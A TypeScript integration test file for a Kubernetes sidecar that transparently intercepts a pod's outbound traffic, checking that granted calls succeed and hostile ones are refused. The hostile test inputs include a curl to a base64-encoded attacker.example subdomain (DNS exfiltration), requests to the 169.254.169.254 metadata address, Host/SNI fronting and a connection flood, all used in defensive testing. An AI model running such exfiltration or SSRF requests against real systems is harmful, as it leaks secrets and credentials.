/**
 * Clients that know of no proxy, in a pod's network with its packet filter: the real net-init and sidecar, under their real
 * users, and the kernel's own redirection. What is outside (DNS, services, API server, exchange) is a program of the test's.
 */

import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INBOUND_PORTS_VARIABLE, SIDECAR_UID } from '../../core/api/pod-layout.ts';
import type { ProblemCode } from '../../core/api/problem.ts';
import { ROOT } from '../../scripts/tools.ts';
import { DEFAULT_INTERCEPT_LIMITS } from '../../sidecar/intercept/limits.ts';
import type { AgentConnection, Received } from '../support/agent-connection.ts';
import { FLOOD_CONNECTIONS } from '../support/agent-flood.ts';
import { eventually } from '../support/eventually.ts';
import {
  type OutsideWorld,
  RELEASED_FILE,
  WORLD_PORTS,
  type WorldEvent,
} from '../support/outside-world.ts';
import { FAR, missingForPodNetworks, NEIGHBOUR, PodNetwork } from '../support/pod-network.ts';
import { sweepAtExit, type TiedProcess } from '../support/tied-process.ts';

const AGENT = { uid: 10_001 };
const SIDECAR = { uid: SIDECAR_UID };
const API = `${FAR.ipv4}:${WORLD_PORTS.api}`;

const missing = missingForPodNetworks();
if (missing !== null) {
  if (process.env['CI'] === 'true') {
    throw new Error(`CI must be able to test transparent interception: ${missing}`);
  }
  process.stderr.write(`\nNOT TESTED: transparent interception, because ${missing}\n\n`);
}

/** A pod with its sidecar, connected to the outside world. */
class Pod {
  readonly network: PodNetwork;
  readonly #directory: string;
  readonly #worldLog: () => string;
  sidecar: TiedProcess;
  sidecarLog: () => string;
  readonly #sweep: () => Promise<void>;

  private constructor(
    network: PodNetwork,
    directory: string,
    worldLog: () => string,
    sidecar: { process: TiedProcess; log(): string },
    sweep: () => Promise<void>,
  ) {
    this.network = network;
    this.#directory = directory;
    this.#worldLog = worldLog;
    this.sidecar = sidecar.process;
    this.sidecarLog = sidecar.log;
    this.#sweep = sweep;
  }

  static async start({ ipv6 = true } = {}): Promise<Pod> {
    const directory = mkdtempSync(join(tmpdir(), 'actiongrant-transparent-'));
    const sweep = sweepAtExit(directory);
    const network = await PodNetwork.create({ ipv6 });
    const world: OutsideWorld = {
      address: FAR.ipv4,
      dnsAddress: NEIGHBOUR.ipv4,
      records: {
        'edr.example.com': FAR.ipv4,
        'shop.soc.svc.cluster.local': FAR.ipv4,
        'metadata.example.com': '169.254.169.254',
      },
      names: ['edr.example.com', 'shop.soc.svc.cluster.local'],
      directory,
    };
    const program = [process.execPath, 'test/support/outside-world.ts', JSON.stringify(world)];
    const outside = await network.start('world', program, 'ready');
    Pod.#writeFiles(directory);
    const noPorts = { [INBOUND_PORTS_VARIABLE]: '' };
    const netInit = [process.execPath, 'sidecar/net-init/main.ts'];
    const rules = await network.inPod(netInit, undefined, noPorts);
    if (rules.code !== 0) throw new Error(rules.stderr);
    const sidecar = await Pod.#startSidecar(network, directory, ipv6);
    return new Pod(network, directory, outside.log, sidecar, sweep);
  }

  static #writeFiles(directory: string): void {
    chmodSync(directory, 0o755);
    chownSync(directory, SIDECAR.uid, SIDECAR.uid);
    for (const name of ['settings', 'state', 'agent']) {
      mkdirSync(join(directory, name));
      chownSync(join(directory, name), SIDECAR.uid, SIDECAR.uid);
    }
    writeFileSync(join(directory, 'token'), 'the.pod.token');
    writeFileSync(
      join(directory, 'resolv.conf'),
      `search soc.svc.cluster.local svc.cluster.local cluster.local\nnameserver ${NEIGHBOUR.ipv4}\noptions ndots:1 timeout:2\n`,
    );
  }

  static #startSidecar(network: PodNetwork, directory: string, ipv6: boolean) {
    const both = (port: number) => `127.0.0.1:${port}${ipv6 ? `,[::1]:${port}` : ''}`;
    const settings = {
      ACTIONGRANT_CONTROLLER_URLS: `https://${FAR.ipv4}:${WORLD_PORTS.exchange}`,
      ACTIONGRANT_CONTROLLER_CA: join(directory, 'ca.crt'),
      ACTIONGRANT_KUBERNETES_SERVER: API,
      ACTIONGRANT_KUBERNETES_CA: join(directory, 'ca.crt'),
      ACTIONGRANT_TRUST_BUNDLE: join(directory, 'ca.crt'),
      ACTIONGRANT_TOKEN: join(directory, 'token'),
      ACTIONGRANT_TRANSPARENT_LISTEN: both(15_006),
      ACTIONGRANT_DNS_LISTEN: both(15_053),
      ACTIONGRANT_STATE_DIRECTORY: join(directory, 'state'),
      ACTIONGRANT_AGENT_DIRECTORY: join(directory, 'agent'),
    };
    writeFileSync(join(directory, 'settings', 'settings.json'), JSON.stringify(settings));
    const node = [process.execPath, join(ROOT, 'dist/sidecar/main.js')];
    return network.start(
      'pod',
      Pod.#withResolver(directory, SIDECAR.uid, node),
      'serving',
      undefined,
      {
        ACTIONGRANT_SETTINGS: join(directory, 'settings'),
        ACTIONGRANT_POD_NAMESPACE: 'soc',
        ACTIONGRANT_POD_NAME: 'agent-0',
        ACTIONGRANT_SERVICE_ACCOUNT: 'incident-agent',
      },
    );
  }

  /** Under the pod's own resolv.conf, and then as this user without any capability. */
  static #withResolver(directory: string, uid: number, command: readonly string[]): string[] {
    const become = [
      'setpriv',
      `--reuid=${uid}`,
      `--regid=${uid}`,
      '--clear-groups',
      '--inh-caps=-all',
      '--bounding-set=-all',
      '--no-new-privs',
      '--',
    ];
    const mount = 'mount --bind "$0" /etc/resolv.conf && exec "$@"';
    return [
      'unshare',
      '--mount',
      'sh',
      '-c',
      mount,
      join(directory, 'resolv.conf'),
      ...become,
      ...command,
    ];
  }

  get podCA(): string {
    return join(this.#directory, 'agent', 'ca.crt');
  }

  /** What the outside has seen and heard so far. */
  events<W extends WorldEvent['what']>(what: W): Extract<WorldEvent, { what: W }>[] {
    const lines = this.#worldLog()
      .split('\n')
      .filter((line) => line.startsWith('{'));
    const events: WorldEvent[] = lines.map((line) => JSON.parse(line));
    return events.filter((event): event is Extract<WorldEvent, { what: W }> => event.what === what);
  }

  /** Lets the outside end what is slow. */
  releaseSlow(): void {
    writeFileSync(join(this.#directory, RELEASED_FILE), '');
  }

  /** A program of the agent. */
  run(command: readonly string[], uid = AGENT.uid) {
    return this.network.inPod(Pod.#withResolver(this.#directory, uid, command));
  }

  /** An unmodified client: all it is told is the pod's CA, as the injector's variables tell it. */
  async curl(...args: string[]): Promise<{ code: number; status: number; body: string }> {
    const common = ['--silent', '--show-error', '--max-time', '30', '--cacert', this.podCA];
    const { code, stdout } = await this.run([
      'curl',
      ...common,
      '--write-out',
      '\n%{http_code}',
      ...args,
    ]);
    const at = stdout.lastIndexOf('\n');
    return { code, status: Number(stdout.slice(at + 1)), body: stdout.slice(0, at) };
  }

  /** A hostile client. */
  async connect(connection: AgentConnection, uid?: number): Promise<Received> {
    const argument = JSON.stringify({ ...connection, ca: readFileSync(this.podCA, 'utf8') });
    const { stdout, stderr } = await this.run(
      [process.execPath, join(ROOT, 'test/support/agent-connection.ts'), argument],
      uid,
    );
    if (stdout === '') throw new Error(stderr);
    return JSON.parse(stdout);
  }

  async restartSidecar(): Promise<void> {
    await this.sidecar.kill();
    const sidecar = await Pod.#startSidecar(this.network, this.#directory, true);
    this.sidecar = sidecar.process;
    this.sidecarLog = sidecar.log;
  }

  async stop(): Promise<void> {
    await this.network.close();
    await this.#sweep();
  }
}

describe.skipIf(missing !== null)('a pod whose connections are redirected', () => {
  let pod: Pod;
  beforeAll(async () => {
    pod = await Pod.start();
  }, 60_000);
  afterAll(() => pod?.stop());

  const lastUse = () => pod.events('use').at(-1)?.action;
  const lastRequest = () => pod.events('request').at(-1);
  const questions = () => pod.events('question').map(({ name }) => name);

  describe('makes a granted call', () => {
    it('by name over https, with a credential that it never sees', async () => {
      const answer = await pod.curl('https://edr.example.com/granted?q=1');
      expect(answer).toEqual({ code: 0, status: 200, body: '{"from":"outside"}' });
      expect(lastUse()).toMatchObject({
        method: 'GET',
        url: 'https://edr.example.com/granted?q=1',
      });
      expect(lastRequest()).toEqual({
        what: 'request',
        port: 443,
        method: 'GET',
        url: '/granted?q=1',
        host: 'edr.example.com',
        token: true,
      });
    });

    it('over IPv6, whatever the upstream has', async () => {
      expect(await pod.curl('-6', 'https://edr.example.com/granted')).toMatchObject({
        status: 200,
      });
    });

    it('over HTTP/1.1 as over HTTP/2', async () => {
      expect(await pod.curl('--http1.1', 'https://edr.example.com/granted')).toMatchObject({
        status: 200,
      });
    });

    it('in the clear, to another port, by the short name of a service', async () => {
      expect(await pod.curl('http://shop:8080/granted')).toMatchObject({ status: 200 });
      expect(lastUse()).toMatchObject({ url: 'http://shop:8080/granted' });
      expect(lastRequest()).toMatchObject({ port: 8080, host: 'shop:8080', token: false });
      expect(questions()).toContain('shop.soc.svc.cluster.local');
    });

    it('to an address', async () => {
      expect(await pod.curl(`http://${FAR.ipv4}:8080/granted`)).toMatchObject({ status: 200 });
      expect(lastUse()).toMatchObject({ url: `http://${FAR.ipv4}:8080/granted` });
    });

    it.each([
      ['at its address, without a server name', API],
      ['by its name', 'kubernetes.default.svc'],
    ])('to the API server %s', async (_, host) => {
      const url = `https://${host}/api/v1/namespaces/soc/pods/granted`;
      expect(await pod.curl(url)).toMatchObject({ status: 200 });
      expect(lastUse()).toMatchObject({ type: 'Kubernetes', verb: 'get', name: 'granted' });
      expect(lastRequest()).toMatchObject({ port: WORLD_PORTS.api, token: true });
    });

    it('through the explicit proxy, as before', async () => {
      const proxy = ['--proxy', 'http://127.0.0.1:15001'];
      expect(await pod.curl(...proxy, 'https://edr.example.com/granted')).toMatchObject({
        status: 200,
      });
      expect(lastUse()).toMatchObject({ url: 'https://edr.example.com/granted' });
    });
  });

  it('is refused without a grant, in words, and nothing of it gets out: no question either', async () => {
    const before = pod.events('request').length;
    const { status, body } = await pod.curl('https://c2VjcmV0.attacker.example/x');
    expect(status).toBe(403);
    expect(JSON.parse(body)).toMatchObject({
      code: 'GrantRequired',
      manifest: expect.stringContaining('url: "https://c2vjcmv0.attacker.example/x"'),
    });
    await pod.run(['getent', 'ahosts', 'c2VjcmV0.attacker.example']);
    expect(pod.events('request')).toHaveLength(before);
    expect(questions().join()).not.toMatch(/attacker/i);
  });

  it('is refused by the API server in its words', async () => {
    const { status, body } = await pod.curl(`https://${API}/api/v1/namespaces/soc/pods/web`);
    expect(status).toBe(403);
    expect(JSON.parse(body)).toMatchObject({
      kind: 'Status',
      reason: 'Forbidden',
      message: expect.stringContaining('kind: ActionGrant'),
    });
  });

  const call = (host: string, path = '/granted') =>
    `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

  describe('is refused, though the path is granted,', () => {
    it.each<[string, AgentConnection, ProblemCode]>([
      [
        'when Host is another name (fronting through its address)',
        { to: 'edr.example.com', port: 443, servername: 'edr.example.com', bytes: call('shop') },
        'AuthorityMismatch',
      ],
      [
        'when Host and server name are another name',
        { to: 'edr.example.com', port: 443, servername: 'shop', bytes: call('shop') },
        'AuthorityMismatch',
      ],
      [
        'when the server name is another',
        { to: 'edr.example.com', port: 443, servername: 'shop', bytes: call('edr.example.com') },
        'AuthorityMismatch',
      ],
      [
        'when there is no server name',
        { to: 'edr.example.com', port: 443, servername: null, bytes: call('edr.example.com') },
        'ServerNameMissing',
      ],
      [
        'when a name is called at an address that was not looked up',
        { to: FAR.ipv4, port: 443, servername: 'edr.example.com', bytes: call('edr.example.com') },
        'AuthorityMismatch',
      ],
      [
        'when an address is called without a server name',
        { to: FAR.ipv4, port: 443, servername: null, bytes: call(FAR.ipv4) },
        'ServerNameMissing',
      ],
      [
        'when it says that it goes to the API server',
        {
          to: 'edr.example.com',
          port: 443,
          servername: null,
          bytes: call('kubernetes.default.svc'),
        },
        'AuthorityMismatch',
      ],
      [
        'when the API server is called in the clear',
        { to: FAR.ipv4, port: WORLD_PORTS.api, bytes: call(API) },
        'KubernetesRequestRefused',
      ],
      [
        'when the API server is called under another name',
        { to: FAR.ipv4, port: WORLD_PORTS.api, servername: null, bytes: call('edr.example.com') },
        'AuthorityMismatch',
      ],
      [
        'when the port in Host is another',
        { to: 'shop', port: 8080, bytes: call('shop') },
        'AuthorityMismatch',
      ],
      [
        'when a proxy elsewhere is asked',
        {
          to: 'proxy.example',
          port: 3128,
          bytes: call('edr.example.com').replace('/granted', 'http://edr.example.com/granted'),
        },
        'TargetRefused',
      ],
      [
        'when it is a CONNECT',
        {
          to: 'proxy.example',
          port: 3128,
          bytes: 'CONNECT edr.example.com:443 HTTP/1.1\r\nHost: edr.example.com:443\r\n\r\n',
        },
        'MethodRefused',
      ],
      [
        'when a synthetic address stands for no name',
        { to: '198.18.255.254', port: 80, bytes: call('edr.example.com') },
        'DestinationUnknown',
      ],
      [
        'when a metadata address is called',
        { to: '169.254.169.254', port: 80, bytes: call('169.254.169.254') },
        'UpstreamNameRefused',
      ],
      [
        'when a name leads to one',
        { to: 'metadata.example.com', port: 80, bytes: call('metadata.example.com') },
        'UpstreamNameRefused',
      ],
    ])('%s', async (_, connection, code) => {
      const before = pod.events('request').length;
      const { text } = await pod.connect(connection);
      expect(/"code":"(\w+)"/.exec(text)?.[1] ?? /"reason":"(\w+)","message"/.exec(text)?.[1]).toBe(
        code,
      );
      expect(pod.events('request')).toHaveLength(before);
    });
  });

  it('has every pipelined request judged by itself', async () => {
    const bytes = call('edr.example.com').replace('Connection: close\r\n', '') + call('shop');
    const { text } = await pod.connect({
      to: 'edr.example.com',
      port: 443,
      servername: 'edr.example.com',
      bytes,
    });
    expect(text.match(/HTTP\/1\.1 [0-9]+/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 421']);
  });

  it.each<[string, AgentConnection, string]>([
    [
      'SSH',
      { to: 'git.example.com', port: 22, bytes: 'SSH-2.0-x\r\n' },
      'SSH to git.example.com:22',
    ],
    [
      'PostgreSQL',
      { to: 'db', port: 5432, bytes: '\x00\x00\x00\x08\x04\xd2\x16\x2f' },
      'PostgreSQL to db.soc.svc.cluster.local:5432',
    ],
    [
      'SMTP, where the server speaks first',
      { to: 'mail.example.com', port: 25, bytes: '' },
      'SMTP to mail.example.com:25',
    ],
    [
      'HTTP/2 without TLS',
      { to: 'grpc.example.com', port: 50051, bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' },
      'HTTP/2 without TLS to grpc.example.com:50051',
    ],
  ])(
    'has a connection of %s closed, and the controller told',
    async (_, connection, attempted) => {
      expect(await pod.connect(connection)).toMatchObject({ closed: true });
      await eventually(
        () =>
          expect(pod.events('refusals').flatMap(({ report }) => report.refusals)).toContainEqual({
            code: 'ProtocolRefused',
            attempted,
            count: 1,
          }),
        { withinMilliseconds: 10_000 },
      );
    },
    30_000,
  );

  it('has the controller told of refused calls, without their queries', async () => {
    await pod.curl('https://edr.example.com/other?hunter2');
    await eventually(
      () =>
        expect(pod.events('refusals').flatMap(({ report }) => report.refusals)).toContainEqual(
          expect.objectContaining({
            code: 'GrantRequired',
            attempted: 'GET https://edr.example.com:443/other',
          }),
        ),
      { withinMilliseconds: 10_000 },
    );
    expect(JSON.stringify(pod.events('refusals'))).not.toContain('hunter2');
  });

  it('cannot reach the listener but by redirection', async () => {
    const connection = { to: '127.0.0.1', port: 15_006, bytes: call('edr.example.com') };
    expect(await pod.connect(connection)).toMatchObject({ text: '', error: 'ECONNREFUSED' });
    // The packet filter lets the sidecar's own user through: then the sidecar itself closes.
    const { text, closed } = await pod.connect(connection, SIDECAR.uid);
    expect({ text, closed }).toEqual({ text: '', closed: true });
    expect(pod.sidecarLog()).toContain('NotRedirected');
  });

  it('gets its answers again after it held all the connections that there are', async () => {
    const tooMany = FLOOD_CONNECTIONS - DEFAULT_INTERCEPT_LIMITS.connections;
    const { closed } = JSON.parse(
      (
        await pod.run([
          process.execPath,
          join(ROOT, 'test/support/agent-flood.ts'),
          FAR.ipv4,
          `${tooMany}`,
        ])
      ).stdout,
    );
    expect(closed).toBeGreaterThanOrEqual(tooMany);
    expect(closed).toBeLessThan(FLOOD_CONNECTIONS);
    expect(await pod.curl('https://edr.example.com/granted')).toMatchObject({ status: 200 });
  });

  it('has its CA kept, and its addresses forgotten, when the sidecar is restarted', async () => {
    const ca = readFileSync(pod.podCA, 'utf8');
    const { stdout } = await pod.run(['getent', 'ahostsv4', 'edr.example.com']);
    const address = stdout.split(/\s/)[0] ?? '';
    await pod.restartSidecar();
    expect(readFileSync(pod.podCA, 'utf8')).toBe(ca);
    const { text } = await pod.connect({
      to: address,
      port: 443,
      servername: 'edr.example.com',
      bytes: call('edr.example.com'),
    });
    expect(text).toContain('"code":"DestinationUnknown"');
    expect(await pod.curl('https://edr.example.com/granted')).toMatchObject({ status: 200 });
  });

  it('lets calls in flight end at SIGTERM, with DNS until then, and afterwards nothing gets out', async () => {
    const slow = pod.curl('https://edr.example.com/granted/slow');
    await eventually(() => expect(lastRequest()).toMatchObject({ url: '/granted/slow' }), {
      withinMilliseconds: 20_000,
    });
    const stopped = pod.sidecar.stop(20_000);
    const lookup = await pod.run(['getent', 'ahostsv4', 'edr.example.com']);
    expect(lookup.stdout).toMatch(/^198\.1[89]\./);
    pod.releaseSlow();
    expect(await slow).toMatchObject({ status: 200, body: '{"from":"outside"}' });
    await stopped;
    expect(pod.sidecar.exitCode).toBe(0);
    const before = pod.events('request').length;
    const packets = await pod.network.packetsDuring(async () => {
      expect((await pod.curl(`http://${FAR.ipv4}:8080/granted`)).code).not.toBe(0);
    });
    expect(packets).toBe(0);
    expect(pod.events('request')).toHaveLength(before);
  });
});

describe.skipIf(missing !== null)('a pod without IPv6', () => {
  it('starts, and makes granted calls', async () => {
    const pod = await Pod.start({ ipv6: false });
    try {
      expect(await pod.curl('https://edr.example.com/granted')).toMatchObject({ status: 200 });
    } finally {
      await pod.stop();
    }
  }, 60_000);
});
